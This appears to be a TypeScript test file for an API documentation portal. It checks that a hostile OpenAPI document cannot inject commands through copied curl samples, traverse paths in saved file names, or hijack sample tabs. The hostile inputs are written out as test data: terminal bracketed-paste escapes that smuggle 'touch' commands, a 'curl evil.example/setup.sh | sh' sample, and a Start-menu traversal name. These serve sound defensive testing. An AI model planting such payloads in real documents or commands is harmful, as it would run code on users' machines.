/**
 * Issue 22, rows 2, 3 and 8, on a hostile third-party document (./hostile-samples.yaml), through
 * the same path as the build: the pipeline (buildProcessedSpec), the page data (PageDataBuilder:
 * samples generated, vendor samples merged, highlighted HTML), the Markdown twins and llms files
 * (writeAgentDocs), and the Copy button's text (copyableText of the sample's text) pasted into an
 * interactive bash on a pseudo-terminal (./paste).
 *
 * Row 2: file names in samples are the portal's ([a-z0-9-] stem, extension from a table of known
 * media types), never the document's media type.
 * Row 3: no raw control character in any sample, copied text, twin, llms.txt or llms-full.txt;
 * pasted, the copied curl runs curl and nothing else, with bracketed paste on or off.
 * Row 8: the document's "cURL" sample neither takes our cURL tab's name nor its place.
 */
import {after, before, describe, test} from 'node:test';
import assert from 'node:assert/strict';
import {mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {buildProcessedSpec} from '../../../openapi/pipeline/build';
import {listOperations} from '../../../openapi/model/operations';
import {PageDataBuilder, sampleRequest} from '../../../plugins/api-pages/page-data';
import {renderSampleSources, SAMPLE_LANGUAGES} from '../../../plugins/api-pages/code-samples';
import {dataModuleSource} from '../../../plugins/api-pages/client/page-data-format';
import {htmlText} from '../../../plugins/agent-docs/html-markdown';
import {writeAgentDocs} from '../../../plugins/agent-docs/pages';
import {copyableText, hasControlCharacters} from '../../../src/components/CopyButton/copyable-text';
import type {OperationPage} from '../../../plugins/api-pages/client/page-data-format';
import {pasteIntoBash} from './paste';

const SOURCE = path.join(__dirname, 'hostile-samples.yaml');

let doc: Record<string, unknown>;
let pages: Map<string, OperationPage & {slug: string}>;

before(async () => {
  const result = await buildProcessedSpec({source: SOURCE, strict: false});
  doc = result.document as unknown as Record<string, unknown>;
  const builder = new PageDataBuilder(doc as never);
  pages = new Map(
    listOperations(builder.doc).map((op) => [`${op.method} ${op.path}`, {...builder.operation(op.method, op.path), slug: op.slug ?? ''}]),
  );
});

const page = (key: string) => {
  const p = pages.get(key);
  assert.ok(p, `the hostile document has ${key}`);
  return p;
};

/** What the Copy button of a sample puts on the clipboard: its code's text, through copyableText. */
const copied = (html: string) => copyableText(htmlText(html));

/** The file each language's sample saves the response to (the string literal it passes), decoded. */
const SAVED_FILE: Record<string, RegExp> = {
  curl: /--output '([^']*)'/,
  javascript: /fs\.writeFile\("([^"]*)"/,
  python: /with open\("([^"]*)", "wb"\)/,
  go: /os\.WriteFile\("([^"]*)"/,
  java: /Path\.of\("([^"]*)"\)/,
  csharp: /File\.WriteAllBytesAsync\("([^"]*)"/,
  php: /'sink' => '([^']*)'/,
  ruby: /File\.binwrite\('([^']*)'/,
};

describe('row 2: the file a sample saves the answer to is named by the portal', () => {
  const cases = [
    {key: 'get /reports/{id}', file: 'get-report.bin', why: 'application/bashrc is not a known media type: .bin, never .bashrc'},
    {
      key: 'get /exports/{id}',
      file: 'app-data-roaming-microsoft-windows-start-menu-programs-star.bin',
      why: 'the ..\\ of the media type and the operationId name no other folder',
    },
  ];
  for (const {key, file, why} of cases) {
    test(`${key}: every language saves to ${file} (${why})`, () => {
      const sources = renderSampleSources(sampleRequest(page(key)));
      assert.deepEqual(
        sources.map((s) => s.id),
        SAMPLE_LANGUAGES.map((l) => l.id),
        'all eight languages',
      );
      for (const s of sources) {
        const m = SAVED_FILE[s.id]!.exec(s.code);
        assert.ok(m, `${s.id} sample saves the response:\n${s.code}`);
        assert.equal(m[1], file, `${s.id} sample's file`);
        assert.match(m[1]!, /^[a-z0-9-]+\.[a-z0-9]+$/);
      }
    });
  }
});

describe('row 3: no control character reaches a sample, the clipboard, a twin or llms-full.txt', () => {
  test("every sample of every operation, ours and the document's, as highlighted and as copied", () => {
    for (const [key, p] of pages) {
      for (const s of p.samples) {
        assert.ok(!hasControlCharacters(htmlText(s.html)), `${key}, ${s.label}: the sample's text`);
        assert.ok(!hasControlCharacters(copied(s.html)), `${key}, ${s.label}: what Copy puts on the clipboard`);
      }
      // The response examples panel: shown as its Copy button copies it.
      for (const r of p.responses)
        for (const m of r.content) assert.ok(!hasControlCharacters(htmlText(m.exampleHtml ?? '')), `${key}, response ${r.status} example`);
    }
    assert.ok(htmlText(page('get /notes/\u202Etxt.exe').responses[0]!.content[0]!.exampleHtml!).includes('"hi \\u0085 \\u202E"'));
    // What the document wrote is still all there, as escapes (the body's bytes, as $'\xHH').
    const curl = htmlText(page('post /pastes').samples.find((s) => s.id === 'curl')!.html);
    assert.ok(curl.includes(`--data-raw $'\\x1B[201~\\x15touch HOSTILE_BODY_RAN\n\\x1B[200~ and\\x09tab'`), curl);
    // HTTP forbids control characters (but tab) in a header value: the sample sends the rest.
    assert.ok(curl.includes(`--header 'X-Trace: [201~touch HOSTILE_HEADER_RAN[200~'`), curl);
    // The document's own sample: its control characters visible.
    const vendor = htmlText(page('post /pastes').samples.find((s) => s.fromDocument && s.label.startsWith('cURL'))!.html);
    assert.ok(vendor.includes('# \\u0015\\u001B[201~touch HOSTILE_VENDOR_RAN'), vendor);
  });

  for (const bracketed of [true, false]) {
    test(`the copied curl pasted into an interactive bash (bracketed paste ${bracketed ? 'on' : 'off'}) runs curl, exactly, and nothing else`, () => {
      const text = copied(page('post /pastes').samples.find((s) => s.id === 'curl')!.html);
      const r = pasteIntoBash(text, {bracketed});
      assert.deepEqual(r.files, [], `files the paste created (a command of the document ran):\n${r.screen}`);
      assert.deepEqual(
        r.curlCalls,
        [
          [
            '--request',
            'POST',
            '--url',
            'https://api.hostile.example/v1/pastes',
            '--header',
            'Accept: application/json',
            '--header',
            'Content-Type: text/plain',
            '--header',
            'X-Trace: [201~touch HOSTILE_HEADER_RAN[200~',
            '--data-raw',
            '\u001b[201~\u0015touch HOSTILE_BODY_RAN\n\u001b[200~ and\ttab',
          ],
        ],
        'one call of curl with the request, the body byte for byte',
      );
    });
  }

  test("the document's own sample, copied and pasted without bracketed paste, runs only what it shows", () => {
    const vendor = page('post /pastes').samples.find((s) => s.fromDocument && s.label.startsWith('cURL'))!;
    const r = pasteIntoBash(copied(vendor.html), {bracketed: false});
    // It shows `curl -s https://evil.example/setup.sh | sh` (the fake curl prints nothing) and a comment.
    assert.deepEqual(r.files, [], `the comment's hidden "touch" ran:\n${r.screen}`);
    assert.deepEqual(r.curlCalls, [['-s', 'https://evil.example/setup.sh']]);
  });

  describe('Markdown twins, llms.txt, llms-full.txt and agent-docs.json', () => {
    const out = mkdtempSync(path.join(tmpdir(), 'hostile-twins-'));
    after(() => rmSync(out, {recursive: true, force: true}));
    const build = path.join(out, 'build');
    const apiDocs = path.join(out, 'docs-api');

    before(async () => {
      // A built site in miniature: each operation's page (its <head>) and data module, and the
      // overview as a doc page whose prose is the document's info.description.
      mkdirSync(apiDocs, {recursive: true});
      for (const p of pages.values()) {
        writeFileSync(path.join(apiDocs, `${p.slug}.data.js`), dataModuleSource(p));
        mkdirSync(path.join(build, 'docs/api', p.slug), {recursive: true});
        writeFileSync(
          path.join(build, 'docs/api', p.slug, 'index.html'),
          `<html><head><title>${p.summary}</title></head><body></body></html>`,
        );
      }
      const info = (doc.info as {description: string}).description;
      mkdirSync(path.join(build, 'docs/guide'), {recursive: true});
      writeFileSync(
        path.join(build, 'docs/guide/index.html'),
        `<html><head><title>Guide</title><meta name="description" content="${info}"></head><body><article><div class="theme-doc-markdown markdown"><h1>Guide</h1><p>${info}</p><pre><code>${info}</code></pre></div></article></body></html>`,
      );
      writeFileSync(path.join(out, 'openapi.json'), JSON.stringify(doc));
      await writeAgentDocs({
        outDir: build,
        siteUrl: 'https://docs.example',
        baseUrl: '/',
        apiDocsDir: apiDocs,
        processedSpec: path.join(out, 'openapi.json'),
        title: 'Hostile',
        tagline: 'Tagline',
      });
    });

    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((f) => (statSync(path.join(dir, f)).isDirectory() ? files(path.join(dir, f)) : [path.join(dir, f)]));

    test('no file written for agents holds a raw control character', () => {
      const written = files(build).filter((f) => /\.(md|txt|json)$/.test(f));
      assert.ok(written.some((f) => f.endsWith('llms-full.txt')) && written.some((f) => f.endsWith('create-paste.md')), written.join(', '));
      for (const f of written)
        assert.ok(!hasControlCharacters(readFileSync(f, 'utf8')), `${path.relative(build, f)} holds a raw control character`);
    });

    test("the document's control characters show as visible escapes; the example request is our curl", () => {
      const twin = readFileSync(path.join(build, 'docs/api/create-paste.md'), 'utf8');
      // (The description is Markdown rendered to HTML and back: "[" comes back escaped, a lone CR as a line break.)
      assert.ok(twin.includes('Prose: Ctrl-U \\u0015 then ESC \\u001B\\[201~ then BEL \\u0007 and CR'), twin);
      assert.ok(twin.includes('C1 \\u009B and LRO \\u202D.'), twin);
      assert.ok(twin.includes('Example: `\\u001B[201~\\u0015touch HOSTILE_HEADER_RAN'), 'the header example, visible');
      assert.ok(twin.includes(`--data-raw $'\\x1B[201~\\x15touch HOSTILE_BODY_RAN`), "the twin's example request is our generated curl");
      assert.ok(!twin.includes('evil.example'), "not the document's own sample");
      const full = readFileSync(path.join(build, 'llms-full.txt'), 'utf8');
      assert.ok(
        full.includes('Row 3 in prose: a Ctrl-U \\u0015, an ESC \\u001B[201~, a DEL \\u007F, a C1 \\u0085'),
        "the guide's prose in llms-full.txt",
      );
    });
  });
});

describe("row 8: the document's samples never take the name or the place of ours", () => {
  test('our eight tabs come first with their labels; the document\'s "cURL" is marked as its own', () => {
    const samples = page('post /pastes').samples;
    assert.deepEqual(
      samples.slice(0, 8).map((s) => [s.id, s.label, Boolean(s.fromDocument)]),
      SAMPLE_LANGUAGES.map((l) => [l.id, l.label, false]),
    );
    assert.match(htmlText(samples[0]!.html), /^curl --request POST/, 'the first tab is our generated curl');
    const theirs = samples.slice(8);
    assert.deepEqual(
      theirs.map((s) => [s.label, s.fromDocument]),
      [
        ['cURL (API description)', true],
        ['Python (API description)', true],
      ],
    );
    assert.ok(
      theirs.every((s) => s.id.startsWith('doc-')),
      'ids of their own (a remembered "curl" never selects one)',
    );
    assert.equal(samples.filter((s) => s.label === 'cURL').length, 1, 'one tab called cURL');
    assert.ok(!htmlText(samples.find((s) => s.label === 'cURL')!.html).includes('setup.sh'), 'and it is ours');
  });
});
